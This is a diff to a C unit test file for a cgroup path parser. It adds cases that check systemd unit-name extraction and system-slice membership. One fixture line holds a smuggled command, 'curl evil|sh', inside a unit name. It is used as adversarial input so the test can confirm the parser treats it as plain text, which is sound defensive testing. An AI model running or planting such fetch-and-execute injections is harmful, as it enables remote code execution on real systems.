@@ -12,7 +12,11 @@ static const struct {
 	{ "0::/user.slice/user-1000.slice/session-3.scope\n", "session-3.scope", NULL, NULL },
 	{ "0::/user.slice/user-1000.slice/user@1000.service/app.slice/web.service\n", "web.service", NULL, NULL },
 	{ "0::/system.slice/system-getty.slice/getty@tty1.service\n", "getty@tty1.service", NULL, NULL },
-	{ "0::/system.slice/my\\x2dapp.service\n", "my-app.service", NULL, NULL },
+	{ "0::/system.slice/my\\x2dapp.service\n", "my\\x2dapp.service", NULL, NULL },
+	/* below a unit it may be called anything */
+	{ "0::/system.slice/web.service/postgresql.service\n", "web.service", NULL, NULL },
+	{ "0::/user.slice/user-1000.slice/user@1000.service/app.slice/a.service/b.service\n", "a.service", NULL, NULL },
+	{ "0::/adv/nginx.service;curl evil|sh;.service\n", "nginx.service;curl evil|sh;.service", NULL, NULL },
 	{ "0::/\n", NULL, NULL, NULL },
 	{ "", NULL, NULL, NULL },
 	{ "0::/init.scope\n", "init.scope", NULL, NULL },
@@ -77,6 +81,35 @@ static void forms_of_runtimes(void **state)
 	}
 }
 
+static void only_the_system_s_own_are_the_system_s(void **state)
+{
+	static const struct {
+		const char *path;
+		bool is;
+	} paths[] = {
+		{ "/system.slice/nginx.service", true },
+		{ "/system.slice/system-getty.slice/getty@tty1.service", true },
+		{ "/system.slice/web.service/postgresql.service", true }, /* of web.service, which it is */
+		{ "/system.slice/nginx.scope", false },
+		{ "/system.slice/x/nginx.service", false },
+		{ "/system.slicer/nginx.service", false },
+		{ "/adv/system.slice/nginx.service", false },
+		{ "/nginx.service", false },
+		{ "/user.slice/user-1000.slice/user@1000.service", false },
+		{ "/user.slice/user-1000.slice/user@1000.service/app.slice/postgresql.service", false },
+		{ "/user.slice/user-1000.slice/user@1000.service/system.slice/postgresql.service", false },
+		{ "/docker/" ID "/system.slice/cron.service", false },
+	};
+	cleanup(arena_cleanup) struct arena *arena = arena_new();
+
+	for (size_t i = 0; i < ARRAY_SIZE(paths); i++) {
+		struct cgroup c;
+		cgroup_parse(arena_printf(arena, "0::%s\n", paths[i].path), arena, &c);
+		if (c.unit_is_system != paths[i].is)
+			fail_msg("%s", paths[i].path);
+	}
+}
+
 static void freezer_of_v1(void **state)
 {
 	cleanup(arena_cleanup) struct arena *arena = arena_new();
@@ -92,4 +125,4 @@ static void freezer_of_v1(void **state)
 	assert_true(c.unified);
 }
 
-UNIT_MAIN(TEST(forms_of_runtimes), TEST(freezer_of_v1));
+UNIT_MAIN(TEST(forms_of_runtimes), TEST(only_the_system_s_own_are_the_system_s), TEST(freezer_of_v1));
